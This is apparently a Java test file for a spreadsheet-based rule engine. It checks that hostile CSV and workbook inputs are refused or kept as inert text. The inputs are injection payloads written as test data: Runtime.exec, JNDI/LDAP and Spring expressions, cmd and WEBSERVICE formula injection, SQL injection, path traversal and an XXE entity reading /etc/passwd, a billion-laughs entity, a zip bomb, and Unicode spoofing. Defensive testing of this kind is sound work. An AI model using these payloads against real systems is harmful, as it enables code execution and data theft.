package dev.cairn.engine.rulebook.sheet;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cairn.engine.rehearsal.Rehearsal;
import dev.cairn.engine.rulebook.Compilation;
import dev.cairn.engine.rulebook.RuleBook;
import dev.cairn.engine.rulebook.row.Issue;
import dev.cairn.engine.rulebook.row.RuleFile;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * What becomes of sheets that mean harm stands in {@code hostile-sheets.txt}: each is refused with an issue, or its text is just a text. The
 * book that is live meanwhile decides as before.
 */
@Timeout(300)
class HostileSheetsTest {
    private static final String EXEC = "Runtime.getRuntime().exec(\"touch hacked\")";
    private static final String EXIT = "System.exit(1)";
    private static final Map<String, String> BESIDE = Map.of(
            "programs.csv", "Program,Stages\nOnboarding,awareness > consideration\n",
            "personas.csv", "Persona\nNew hire\n");

    private final List<String> told = new ArrayList<>();

    @Test
    void everyHostileSheetIsRefusedOrInert() throws IOException {
        RuleBook live = book(Books.folder(Path.of("../rules")));
        List<Rehearsal.Outcome> before = Rehearsal.run(live, Rehearsal.sampleCatalog(live));

        codeInCells();
        textsThatLeaveTheirQuotes();
        formulas();
        names();
        signsThatDeceive();
        filesThatAreNotWhatTheySay();
        sizes();

        assertTrue(told.stream().filter(line -> line.startsWith("# ")).count() >= 45);
        assertTrue(before.stream().allMatch(Rehearsal.Outcome::passed));
        assertEquals(before, Rehearsal.run(live, Rehearsal.sampleCatalog(live)));
        assertTrue(java.nio.file.Files.notExists(Path.of("hacked")));
        Books.golden(Books.RESOURCES.resolve("hostile-sheets.txt"), String.join("\n", told) + "\n");
    }

    @Test
    @Tag("deep")
    void aWorkbookOfAMillionRowsOrOfEveryColumnIsRefused() {
        StringBuilder rows = new StringBuilder();
        for (int i = 1; i <= 1_000_000; i++) {
            rows.append("<row r='").append(i).append("'><c t='inlineStr'><is><t>x</t></is></c></row>");
        }
        List<String> million = outcome(List.of(new RuleFile("guards.xlsx", withRows(rows.toString()))));
        assertEquals(
                List.of(
                        "refused: guards.xlsx, sheet \"guards\", row 20001 (A20001): a sheet may have 20000 rows,"
                                + " and this cell lies beyond; remove what is not needed, or split the sheet into several files"),
                million);
        StringBuilder cells = new StringBuilder("<row>");
        for (int i = 1; i <= 16_384; i++) {
            cells.append("<c t='inlineStr'><is><t>Note</t></is></c>");
        }
        List<String> wide = outcome(List.of(new RuleFile("guards.xlsx", withRows(cells + "</row>"))));
        assertEquals(
                List.of(
                        "refused: guards.xlsx, sheet \"guards\", row 1 (IW1): a sheet may have 256 columns,"
                                + " and this cell lies beyond; remove what is not needed, or split the sheet into several files"),
                wide);
    }

    private void codeInCells() {
        for (String column : List.of(
                "Name",
                "Stage",
                "Persona",
                "Role",
                "Minutes",
                "Time of day",
                "Weekday",
                "First day",
                "Device share mobile",
                "From",
                "Order",
                "Off",
                "Group",
                "Then require",
                "Max minutes",
                "Then show level",
                "Because")) {
            cell("Java in " + column, column, EXEC);
        }
        cell("Java in Points", "Points", EXIT);
        cell("Java in Due", "Due", "new Date(); " + EXIT);
        cell("Java in a header's attribute", "Attribute: x\") || eval(" + EXIT + ") || (\"", "1");
        cell("Java in a header's signals", "Signals: viewed within " + EXIT, "1");
        cell("an expression in a header's skill", "Skill gap: ${" + EXEC + "}", "1");
        sheet("Java in a setting", "settings.csv", "Setting,Value\ntime zone," + EXIT + "\n");
        sheet("a path as a setting", "settings.csv", "Setting,Value\ntime zone,../../../../etc/passwd\n");
        sheet("Java as a setting's name", "settings.csv", "Setting,Value\n" + EXIT + ",x\n");
        sheet("Java as a weight", "ranking.csv", "Term,Weight\nfreshness,Math.max(1; 2)\n");
        cell("an expression of Spring", "Role", "#{T(java.lang.Runtime).getRuntime().exec('id')}");
        cell("a look-up of a logger", "Because", "${jndi:ldap://example.org/a}");
        cell("a template's expression", "Then show tag", "@{" + EXEC + "}");
        cell("MVEL", "Role", "with (java.lang.Runtime.getRuntime()) { exec('id') }");
        cell("a thread", "Group", "new Thread(() -> { while (true); }).start()");
        cell("a loop", "Because", "for (;;) {}");
        cell("unicode escapes", "Role", "\\u0053ystem.exit(1)");
    }

    private void textsThatLeaveTheirQuotes() {
        cell("a quotation mark that ends a text", "Role", "x\" ); " + EXIT + "; //");
        cell("a backslash before a quotation mark", "Role", "x\\\"");
        cell("a comment that ends a rule", "Because", "*/ end rule \"x\" when then " + EXIT + "; end /*");
        cell("a cell that begins with a quotation mark", "Role", "\"; " + EXIT);
        cell("a cell that begins with an apostrophe", "Role", "'); drop table learner; --");
        cell("apostrophes in apostrophes", "Role", "'''' '''a''' ''''");
        cell("an empty value in apostrophes", "Role", "''");
        cell("keywords upon keywords", "Role", "not ".repeat(1_500) + "a");
        cell("brackets without end", "Role", "(".repeat(7_000));
        cell("commas without end", "Role", ",".repeat(7_000));
        cell("a number without end", "Minutes", "1e999999999");
        cell("a year without end", "From", "+999999999-12-31");
    }

    private void formulas() {
        for (String formula : List.of(
                "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
                "=cmd|'/c calc'!A1",
                "=WEBSERVICE(\"http://example.org/\"&A1)",
                "@SUM(1+1)*cmd|'/c calc'!A0",
                "-2+3+cmd|'/c calc'!A1",
                "+cmd|'/c calc'!A1",
                "\t=1+1",
                "\r=1+1",
                " =1+1",
                "'=1+1")) {
            List<RuleFile> files = content("Because", formula);
            cell("a formula as text: " + formula.strip(), "Because", formula);
            converted(files, formula);
        }
        cell("a formula as a value", "Role", "=HYPERLINK(\"x\")");
        cell("a formula as a number", "Minutes", "=1+1");
        workbook("a formula with its result", book -> {
            row(book, 0, "Name", "Then hide kind", "Because");
            row(book, 1, "x", "video", "");
            book.getRow(1).getCell(2).setCellFormula("HYPERLINK(\"http://example.org\",\"click\")");
            book.getRow(1).getCell(2).setCellValue("click");
        });
        workbook("a formula without its result", book -> {
            row(book, 0, "Name", "Then hide kind", "Because");
            row(book, 1, "x", "video");
            book.getRow(1).createCell(2).setCellFormula("HYPERLINK(\"http://example.org\",\"click\")");
        });
    }

    private void names() {
        String guards = "Name,Then hide kind\nx,video\n";
        for (String name : List.of(
                "../../etc/passwd.csv",
                "../../guards.csv",
                "C:\\x\\guards.csv",
                "guards\0.csv",
                "NUL.csv",
                "guards.csv.exe",
                ".csv",
                "gu\u202Eards.csv",
                "x".repeat(5_000) + ".csv")) {
            sheet("a file named " + (name.length() > 60 ? "without end" : shown(name)), name, guards);
        }
        List<RuleFile> twice =
                new ArrayList<>(List.of(Books.csv("guards.csv", guards), Books.csv("guards.csv", guards)));
        story("two files of one name", twice);
    }

    private void signsThatDeceive() {
        cell("a Cyrillic letter in a stage", "Stage", "\u0430wareness");
        cell("a Greek letter in a persona", "Persona", "\u039Dew hire");
        cell("a Cyrillic letter in a header", "Weekd\u0430y", "Mon");
        sheet("a Cyrillic letter in a sheet's name", "gu\u0430rds.csv", "Name\nx\n");
        cell("letters that turn direction in words", "Because", "you will like \u202Egnp.exe");
        cell("letters that turn direction in a value", "Stage", "\u202Essenerawa");
        cell("an isolate that is never closed", "Because", "\u2066x");
        cell("a sign of no width in a known value", "Stage", "aware\u200Bness");
        cell("a sign of no width in an unknown value", "Stage", "awar\u200Bnesss");
        cell("a joiner in words", "Because", "\uD83D\uDC69\u200D\uD83D\uDCBB is fine");
        cell("a soft hyphen in a value", "Stage", "aware\u00ADness");
        cell("accents upon accents", "Stage", "awareness" + "\u0301".repeat(500));
        cell("two byte order marks", "\uFEFFBecause", "x");
        file("NUL bytes", "guards.csv", "Name,Then hide kind\nx\0,video\n".getBytes(UTF_8));
        file("UTF-16 that says so", "guards.csv", "\uFEFFName,Then hide kind\nx,video\n".getBytes(UTF_16LE));
        file("UTF-16 that does not", "guards.csv", "Name,Then hide kind\nx,video\n".getBytes(UTF_16LE));
        file("UTF-8 that is too long for its letter", "guards.csv", "Name\n\u00C0\u00AF\n".getBytes(ISO_8859_1));
        workbook("half a letter in a workbook", book -> {
            row(book, 0, "Name", "Then hide kind", "Because");
            row(book, 1, "x", "video", "_xD800_ alone");
        });
    }

    private void filesThatAreNotWhatTheySay() throws IOException {
        byte[] good = ConversionTest.workbook(book -> row(book.createSheet("guards"), 0, "Name", "Then hide kind"));
        file("a workbook named as CSV", "guards.csv", good);
        file("CSV named as a workbook", "guards.xlsx", "Name\nx\n".getBytes(UTF_8));
        file("macros by name", "guards.xlsm", good);
        file("macros by part", "book.xlsx", changed(good, "xl/vbaProject.bin", text -> "x"));
        file(
                "another workbook's values",
                "book.xlsx",
                changed(good, "xl/externalLinks/externalLink1.xml", text -> "<a/>"));
        file(
                "a protected workbook",
                "book.xlsx",
                "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1".getBytes(ISO_8859_1));
        String sheet = "xl/worksheets/sheet1.xml";
        file(
                "an entity that reads a file",
                "book.xlsx",
                changed(
                        good,
                        sheet,
                        text -> text.replace(
                                "<worksheet", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><worksheet")));
        file(
                "a billion laughs",
                "book.xlsx",
                changed(
                        good,
                        "xl/sharedStrings.xml",
                        text -> text.replace(
                                "<sst", "<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><sst")));
        file("a bomb", "book.xlsx", changed(good, "xl/media/a.bin", text -> "\0".repeat(30_000_000)));
        file("a part named as a path", "book.xlsx", changed(good, "../../etc/passwd", text -> "x"));
        workbook("merged cells", book -> {
            row(book, 0, "Name", "Then hide kind");
            row(book, 1, "x", "video");
            book.addMergedRegion(new CellRangeAddress(1, 2, 0, 0));
        });
        file("rules hidden where lists stand", "book.xlsx", ConversionTest.workbook(book -> {
            row(book.createSheet("ranking"), 0, "Term", "Weight");
            row(book.createSheet("note-choices"), 0, EXIT);
            book.setSheetHidden(1, true);
        }));
        file("rules in the list of issues", "book.xlsx", ConversionTest.workbook(book -> {
            row(book.createSheet("ranking"), 0, "Term", "Weight");
            row(book.createSheet("Issues"), 0, EXIT);
        }));
    }

    private void sizes() {
        sheet("a cell of 10 MB", "guards.csv", "Name\n" + "x".repeat(10_000_000) + "\n");
        sheet("a cell of 10 MB in quotation marks", "guards.csv", "Name\n\"" + "x\n".repeat(5_000_000) + "\"\n");
        sheet("a header of 10 MB", "guards.csv", "x".repeat(10_000_000) + "\nx\n");
        sheet("a million rows", "guards.csv", "Name,Then hide kind\n" + "x,video\n".repeat(1_000_000));
        sheet("16,384 columns", "guards.csv", "Note,".repeat(16_383) + "Name\nx\n");
        sheet("20,000 rows that are all wrong", "guards.csv", "Stage,Then hide kind\n" + "x,video\n".repeat(19_000));
    }

    private void cell(String what, String column, String text) {
        story(what, content(column, text));
    }

    private static List<RuleFile> content(String column, String text) {
        String points = column.equals("Points") ? "" : ",Points";
        String csv = quoted(column) + ",Then show kind" + points + "\n" + quoted(text) + ",video"
                + (points.isEmpty() ? "" : ",10") + "\n";
        return List.of(Books.csv("content-rules.csv", csv));
    }

    private void sheet(String what, String name, String text) {
        file(what, name, text.getBytes(UTF_8));
    }

    private void file(String what, String name, byte[] bytes) {
        story(what, List.of(new RuleFile(name, bytes)));
    }

    private void workbook(String what, java.util.function.Consumer<XSSFSheet> rows) {
        file(what, "book.xlsx", ConversionTest.workbook(book -> rows.accept(book.createSheet("guards"))));
    }

    private void story(String what, List<RuleFile> files) {
        told.add("# " + shown(what));
        told.addAll(outcome(files));
    }

    private static List<String> outcome(List<RuleFile> hostile) {
        List<RuleFile> files = new ArrayList<>(hostile);
        BESIDE.forEach((name, text) -> files.add(Books.csv(name, text)));
        Compilation compilation = RuleBook.compile(files);
        List<String> lines = new ArrayList<>();
        if (compilation instanceof Compilation.Rejected rejected) {
            List<Issue> errors =
                    rejected.issues().stream().filter(Issue::isError).toList();
            assertTrue(!errors.isEmpty());
            errors.stream().limit(2).forEach(issue -> lines.add("refused: " + cut(issue.toString())));
            if (errors.size() > 2) {
                lines.add("(" + (errors.size() - 2) + " more)");
            }
            return lines;
        }
        Compilation.Compiled compiled = (Compilation.Compiled) compilation;
        compiled.book()
                .rows()
                .rows()
                .forEach(row -> lines.add("inert: " + cut(shown(row.head().sentence()))));
        if (lines.isEmpty()) {
            lines.add("inert: nothing is read of it");
        }
        return lines;
    }

    /** In neither form does a spreadsheet see a formula, and the text comes back. */
    private static void converted(List<RuleFile> files, String formula) {
        List<RuleFile> workbook = ConversionTest.converted(Workbook.of("book.xlsx", files, null));
        List<RuleFile> folder = ConversionTest.converted(Workbook.folder(workbook));
        String csv = new String(folder.get(0).bytes(), UTF_8).lines().skip(1).reduce("", (a, b) -> a + b + "\n");
        String first = csv.startsWith("\"") ? csv.substring(1) : csv;
        assertTrue(first.startsWith("'"), csv);
        String text =
                BookTables.of(workbook).tables().get(0).lines().get(1).value(1).text();
        assertEquals(Inert.read(formula), text);
        assertEquals(
                text,
                BookTables.of(folder).tables().get(0).lines().get(1).value(1).text());
    }

    private static RuleBook book(List<RuleFile> files) {
        return ((Compilation.Compiled) RuleBook.compile(files)).book();
    }

    private static String quoted(String text) {
        return '"' + text.replace("\"", "\"\"") + '"';
    }

    private static String cut(String line) {
        return line.length() > 260 ? line.substring(0, 260) + "..." : line;
    }

    private static String shown(String text) {
        StringBuilder shown = new StringBuilder();
        text.codePoints().forEach(c -> {
            boolean plain = c >= ' ' && c < 0x2000 && c != 0xAD && Character.getType(c) != Character.NON_SPACING_MARK;
            shown.append(plain ? Character.toString(c) : String.format("<U+%04X>", c));
        });
        return shown.toString();
    }

    private static void row(XSSFSheet sheet, int at, String... texts) {
        var row = sheet.createRow(at);
        for (int i = 0; i < texts.length; i++) {
            row.createCell(i).setCellValue(texts[i]);
        }
    }

    private static byte[] withRows(String rows) {
        byte[] empty = ConversionTest.workbook(book -> book.createSheet("guards"));
        return changed(
                empty,
                "xl/worksheets/sheet1.xml",
                text -> text.replace("<sheetData/>", "<sheetData>" + rows + "</sheetData>"));
    }

    /** The workbook with a part that is another, or new. */
    private static byte[] changed(byte[] workbook, String part, UnaryOperator<String> change) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(workbook));
                ZipOutputStream zip = new ZipOutputStream(out)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
            String before = new String(parts.getOrDefault(part, new byte[0]), UTF_8);
            String after = change.apply(before);
            assertTrue(!after.equals(before), part);
            parts.put(part, after.getBytes(UTF_8));
            for (Map.Entry<String, byte[]> entry : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
